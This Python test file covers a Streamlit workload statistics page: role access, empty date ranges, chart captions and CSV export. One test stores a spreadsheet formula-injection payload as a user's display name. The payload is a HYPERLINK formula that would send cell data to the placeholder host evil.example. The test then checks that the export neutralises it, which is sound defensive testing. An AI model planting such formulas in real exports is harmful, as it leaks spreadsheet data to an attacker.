"""The Workload now Stats page under AppTest: supervisors and admins see it, agents do not; bad ranges."""

from __future__ import annotations

import pytest

from tests.conftest import demo_user
from tests.pages import stats_helpers as h

PAGE = "pages/stats_workload.py"
TITLE = "Stats · Workload now"


def test_supervisors_and_admins_see_it_agents_do_not(app_as):
    h.check_roles(app_as, PAGE, TITLE, 1)


def test_a_range_with_no_data_says_so(app_as, demo_db):
    at = app_as("sam", PAGE)
    at.session_state["stats.filter"] = h.far_past(demo_user(demo_db, "sam").timezone)
    at.run()
    assert not h.page_errors(at), at.exception
    assert TITLE in h.shown(at)
    if "workload" != "workload":  # workload is about now: the range does not apply
        assert at.info, "an empty range gets a clear note"


@pytest.mark.parametrize("username", ["sam", "admin"])
def test_every_chart_says_what_it_counts(app_as, username):
    at = app_as(username, PAGE)
    assert sum(1 for c in h.captions(at) if c.startswith(("Counts", "How long", "From a", "In:", "Of "))) >= 1


def test_the_csv_download_neutralises_formulas_in_names(app_as, demo_db, monkeypatch):
    """A name someone typed (an agent's, a contact's WhatsApp profile name) that a spreadsheet would run
    as a formula is written with a leading quote, as every other CSV Parley writes."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    stored: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):
        if isinstance(path_or_data, bytes):
            stored[filename or ""] = path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Maria")'
    demo_db.write(lambda tx: tx.execute("UPDATE users SET display_name = ? WHERE username = 'maria'", [evil]))
    at = app_as("sam", PAGE)
    assert not h.page_errors(at), at.exception
    text = stored["workload-now.csv"].decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert any(cell.startswith("\"'=HYPERLINK(") for cell in cells), text
    assert not any(cell.lstrip('"').startswith("=") for cell in cells), text
